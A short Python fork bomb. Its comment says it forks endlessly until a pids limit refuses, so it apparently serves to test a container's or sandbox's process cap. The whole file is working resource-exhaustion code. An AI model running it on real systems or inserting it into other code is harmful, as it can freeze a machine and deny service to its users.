# Forks forever, and every child forks too, until the pids limit refuses; never exits.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
